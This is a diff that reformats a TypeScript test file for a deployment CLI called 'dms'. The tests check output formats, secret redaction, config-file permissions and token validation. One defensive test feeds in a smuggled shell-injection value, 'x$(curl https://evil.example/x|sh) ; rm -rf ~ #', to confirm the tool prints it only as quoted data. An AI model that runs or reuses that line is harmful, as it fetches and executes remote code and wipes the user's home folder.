@@ -26,10 +26,12 @@ function expectNoSecret(r: BinResult, secret = SECRET): void {
 }
 
 /** Lists `rows` (given as JSON text) for any GET. */
-const listing = (text: string): Handler => (_req, res) => {
-  res.writeHead(200, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
-  res.end(text);
-};
+const listing =
+  (text: string): Handler =>
+  (_req, res) => {
+    res.writeHead(200, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
+    res.end(text);
+  };
 
 function bodyFile(content: string): string {
   const path = join(tempDir('dms-edges-'), 'body.json');
@@ -38,15 +40,24 @@ function bodyFile(content: string): string {
 }
 
 const APP_BODY = {
-  project_uuid: 'p1', server_uuid: 's1', environment_name: 'production',
-  git_repository: 'https://github.com/acme/web', git_branch: 'main', build_pack: 'nixpacks',
+  project_uuid: 'p1',
+  server_uuid: 's1',
+  environment_name: 'production',
+  git_repository: 'https://github.com/acme/web',
+  git_branch: 'main',
+  build_pack: 'nixpacks',
 };
 
 describe.each([5_000, 100_000])('a record with %i nested arrays', (depth) => {
   const page = `[{"id":1,"status":"finished","commit":"abc1234","x":${'['.repeat(depth)}"https://u:pw@h/"${']'.repeat(depth)}}]`;
 
   it.each([
-    [['--json']], [['-o', 'ndjson']], [['--json', '--show-secrets']], [['-o', 'table']], [['-o', 'csv']], [['--all', '-o', 'ndjson']],
+    [['--json']],
+    [['-o', 'ndjson']],
+    [['--json', '--show-secrets']],
+    [['-o', 'table']],
+    [['-o', 'csv']],
+    [['--all', '-o', 'ndjson']],
   ])('dms deployments %j prints it, deep parts as a placeholder, exit 0', async (args) => {
     const s = await serve(listing(page));
     const r = await runBin(['deployments', APP, ...args], { env: envOf(s) });
@@ -74,16 +85,19 @@ describe.each([5_000, 100_000])('a record with %i nested arrays', (depth) => {
 describe('130,000 empty records (a server that ignores take)', () => {
   const page = `[${Array.from({ length: 130_000 }, () => '{}').join(',')}]`;
 
-  it.each([[['-o', 'table']], [['--json']], [['-o', 'csv']], [['-o', 'ndjson']]])('dms deployments %j prints every row, exit 0', async (args) => {
-    const s = await serve(listing(page));
-    const r = await runBin(['deployments', APP, ...args], { env: envOf(s), timeoutMs: 30_000 });
-    expect(r.stderr).not.toMatch(/Maximum call stack|internal error/);
-    expect(r.code).toBe(0);
-    if (args.includes('table')) expect(r.stdout.endsWith('\nshowing 1–130,000 (the server sends no total)\n')).toBe(true);
-    if (args.includes('--json')) expect(JSON.parse(r.stdout)).toHaveLength(130_000);
-    if (args.includes('csv')) expect(r.stdout.trim().split('\r\n')).toHaveLength(130_001);
-    if (args.includes('ndjson')) expect(r.stdout.trim().split('\n')).toHaveLength(130_000);
-  });
+  it.each([[['-o', 'table']], [['--json']], [['-o', 'csv']], [['-o', 'ndjson']]])(
+    'dms deployments %j prints every row, exit 0',
+    async (args) => {
+      const s = await serve(listing(page));
+      const r = await runBin(['deployments', APP, ...args], { env: envOf(s), timeoutMs: 30_000 });
+      expect(r.stderr).not.toMatch(/Maximum call stack|internal error/);
+      expect(r.code).toBe(0);
+      if (args.includes('table')) expect(r.stdout.endsWith('\nshowing 1–130,000 (the server sends no total)\n')).toBe(true);
+      if (args.includes('--json')) expect(JSON.parse(r.stdout)).toHaveLength(130_000);
+      if (args.includes('csv')) expect(r.stdout.trim().split('\r\n')).toHaveLength(130_001);
+      if (args.includes('ndjson')) expect(r.stdout.trim().split('\n')).toHaveLength(130_000);
+    },
+  );
 });
 
 describe('a uuid from the server in a suggested command', () => {
@@ -99,20 +113,18 @@ describe('a uuid from the server in a suggested command', () => {
     expect(r.stderr).toBe('Follow it: dms deployments 3f0c2a9e-7b1d-4c8e-9a41-5d2e8b6f1c07\n');
   });
 
-  it.each([
-    'x$(curl https://evil.example/x|sh) ; rm -rf ~ #',
-    '`id`',
-    '-rf',
-    'abc\u001b]0;title\u0007',
-  ])('%j is printed quoted as data and no command is suggested', async (uuid) => {
-    const r = await create(uuid);
-    expect(r.code).toBe(0);
-    expect(r.stderr).not.toMatch(/Follow it|dms deployments/);
-    expect(r.stderr).toMatch(/not a plain id/);
-    const shown = /^uuid: (.*)$/m.exec(r.stdout)![1]!;
-    expect(JSON.parse(shown)).toBe(uuid);
-    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
-  });
+  it.each(['x$(curl https://evil.example/x|sh) ; rm -rf ~ #', '`id`', '-rf', 'abc\u001b]0;title\u0007'])(
+    '%j is printed quoted as data and no command is suggested',
+    async (uuid) => {
+      const r = await create(uuid);
+      expect(r.code).toBe(0);
+      expect(r.stderr).not.toMatch(/Follow it|dms deployments/);
+      expect(r.stderr).toMatch(/not a plain id/);
+      const shown = /^uuid: (.*)$/m.exec(r.stdout)![1]!;
+      expect(JSON.parse(shown)).toBe(uuid);
+      expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    },
+  );
 });
 
 describe('control characters in JSON output are escaped', () => {
@@ -138,7 +150,11 @@ describe('control characters in JSON output are escaped', () => {
 
   it('dms context list shows no raw controls from a hand-edited URL', async () => {
     const dir = tempConfigDir();
-    writeFileSync(join(dir, 'config.json'), JSON.stringify({ current: 'x', contexts: { x: { url: `https://h/${NASTY}`, token: TOKEN } } }), { mode: 0o600 });
+    writeFileSync(
+      join(dir, 'config.json'),
+      JSON.stringify({ current: 'x', contexts: { x: { url: `https://h/${NASTY}`, token: TOKEN } } }),
+      { mode: 0o600 },
+    );
     const r = await runBin(['context', 'list'], { env: { DMS_CONFIG_DIR: dir } });
     expect(r.code).toBe(0);
     expect(r.stdout).not.toMatch(RAW);
@@ -177,7 +193,17 @@ describe('a base URL with a query or a fragment', () => {
     const fromEnv = await runBin(['deployments', APP], { env: { DMS_URL: `${s.url}/api/v1${tail}`, DMS_TOKEN: TOKEN } });
     expect(fromEnv.code).toBe(2);
     expect(fromEnv.stderr).toMatch(message);
-    const fromFlags = await runBin(['--url', `${s.url}/api/v1${tail}`, '--token', TOKEN, 'create', 'docstore', '--file', bodyFile('{"project_uuid":"p","server_uuid":"s","environment_name":"e"}'), '--discard-credentials']);
+    const fromFlags = await runBin([
+      '--url',
+      `${s.url}/api/v1${tail}`,
+      '--token',
+      TOKEN,
+      'create',
+      'docstore',
+      '--file',
+      bodyFile('{"project_uuid":"p","server_uuid":"s","environment_name":"e"}'),
+      '--discard-credentials',
+    ]);
     expect(fromFlags.code).toBe(2);
     expect(fromFlags.stderr).toMatch(message);
     expect(s.total()).toBe(0);
@@ -186,7 +212,10 @@ describe('a base URL with a query or a fragment', () => {
 
   it('dms context add refuses it (before asking for the token), exit 2', async () => {
     const dir = tempConfigDir();
-    const r = await runBin(['context', 'add', 'prod', '--url', 'https://h.example/api/v1?x=1'], { env: { DMS_CONFIG_DIR: dir }, input: `${TOKEN}\n` });
+    const r = await runBin(['context', 'add', 'prod', '--url', 'https://h.example/api/v1?x=1'], {
+      env: { DMS_CONFIG_DIR: dir },
+      input: `${TOKEN}\n`,
+    });
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/must not hold a query/);
   });
@@ -211,8 +240,14 @@ describe('a token in the wrong place is never echoed', () => {
     [['deployments', APP, '-o', TOKEN], /^dms: -o\/--output takes table, json, ndjson, csv\.$/m],
     [['--timeout', TOKEN, 'deployments', APP], /^dms: --timeout must be a number of seconds between 0 and 3600\.$/m],
     [[`--json=${TOKEN}`, 'deployments', APP], /^dms: --json takes no value/],
-    [['--token', `-${SECRET}`, 'deployments', APP], /^dms: --token: a value that starts with '-' is taken for an option \(write --token=VALUE/],
-    [['--context', TOKEN, 'deployments', APP], /^dms: --context: no context by the name given \(not repeated here, in case it is a secret\)/],
+    [
+      ['--token', `-${SECRET}`, 'deployments', APP],
+      /^dms: --token: a value that starts with '-' is taken for an option \(write --token=VALUE/,
+    ],
+    [
+      ['--context', TOKEN, 'deployments', APP],
+      /^dms: --context: no context by the name given \(not repeated here, in case it is a secret\)/,
+    ],
   ])('dms %j: one line naming what is wrong, exit 2', async (args, message) => {
     const s = await serve(json(200, []));
     // A token in the environment too: the connection is fine, only the arguments are wrong.
@@ -224,7 +259,9 @@ describe('a token in the wrong place is never echoed', () => {
   });
 
   it('a plain mistyped value is still repeated', async () => {
-    const r = await runBin(['deployments', APP, '--take', 'ten', '-o', 'yaml'], { env: { DMS_URL: 'http://127.0.0.1:9/api/v1', DMS_TOKEN: TOKEN } });
+    const r = await runBin(['deployments', APP, '--take', 'ten', '-o', 'yaml'], {
+      env: { DMS_URL: 'http://127.0.0.1:9/api/v1', DMS_TOKEN: TOKEN },
+    });
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/--take must be a whole number of at least 1, not 'ten'/);
   });
@@ -254,7 +291,11 @@ describe('tokens are checked before anything is sent', () => {
   it('in a saved context: refused, exit 2, with how to fix it', async () => {
     const s = await serve(json(200, []));
     const dir = tempConfigDir();
-    writeFileSync(join(dir, 'config.json'), JSON.stringify({ current: 'prod', contexts: { prod: { url: `${s.url}/api/v1`, token: '17|sécret' } } }), { mode: 0o600 });
+    writeFileSync(
+      join(dir, 'config.json'),
+      JSON.stringify({ current: 'prod', contexts: { prod: { url: `${s.url}/api/v1`, token: '17|sécret' } } }),
+      { mode: 0o600 },
+    );
     const r = await runBin(['deployments', APP], { env: { DMS_CONFIG_DIR: dir } });
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/context "prod" in config\.json: the token contains characters a header cannot carry.*dms context add prod/);
@@ -264,7 +305,10 @@ describe('tokens are checked before anything is sent', () => {
 
   it('dms context add: refused, nothing saved, exit 2', async () => {
     const dir = tempConfigDir();
-    const r = await runBin(['context', 'add', 'prod', '--url', 'https://h.example/api/v1'], { env: { DMS_CONFIG_DIR: dir }, input: '17|sécret\n' });
+    const r = await runBin(['context', 'add', 'prod', '--url', 'https://h.example/api/v1'], {
+      env: { DMS_CONFIG_DIR: dir },
+      input: '17|sécret\n',
+    });
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/characters a header cannot carry/);
     expectNoSecret(r, 'sécret');
@@ -291,7 +335,9 @@ describe('config.json that others can change', () => {
     expect(r.code).toBe(0);
     const warnings = r.stderr.split('\n').filter((l) => l.startsWith('dms: warning:'));
     expect(warnings).toEqual([
-      expect.stringMatching(/config\.json can be changed by other users \(mode 0622\): whoever writes it can send your token to a server of theirs; run: chmod 600 .*config\.json$/),
+      expect.stringMatching(
+        /config\.json can be changed by other users \(mode 0622\): whoever writes it can send your token to a server of theirs; run: chmod 600 .*config\.json$/,
+      ),
       expect.stringMatching(/the folder .*dms can be changed by other users \(mode 0777\): they can replace config\.json; run: chmod 700 /),
     ]);
     expectNoSecret(r);
@@ -312,7 +358,9 @@ describe('config.json that others can change', () => {
     chownSync(join(dir, 'config.json'), 65534, 65534); // nobody
     const r = await runBin(['deployments', APP], { env: { DMS_CONFIG_DIR: dir } });
     expect(r.code).toBe(2);
-    expect(r.stderr).toMatch(/config\.json belongs to another user \(uid 65534\).*dms does not use it\. If it is yours, run: chown \$\(id -u\) /);
+    expect(r.stderr).toMatch(
+      /config\.json belongs to another user \(uid 65534\).*dms does not use it\. If it is yours, run: chown \$\(id -u\) /,
+    );
     expect(s.total()).toBe(0);
     const list = await runBin(['context', 'list'], { env: { DMS_CONFIG_DIR: dir } });
     expect(list.code).toBe(2);
@@ -331,7 +379,12 @@ describe('config.json that others can change', () => {
 
 describe('a 422 naming prototype fields', () => {
   it('lists every field, __proto__ and constructor included, exit 5', async () => {
-    const s = await serve(json(422, '{"message":"Validation failed.","errors":{"__proto__":["proto is bad."],"constructor":"ctor is bad.","name":["name is bad."]}}'));
+    const s = await serve(
+      json(
+        422,
+        '{"message":"Validation failed.","errors":{"__proto__":["proto is bad."],"constructor":"ctor is bad.","name":["name is bad."]}}',
+      ),
+    );
     const r = await runBin(['create', 'app', '--file', bodyFile(JSON.stringify(APP_BODY))], { env: envOf(s) });
     expect(r.code).toBe(5);
     expect(r.stderr).toMatch(/^ {2}__proto__: proto is bad\.$/m);
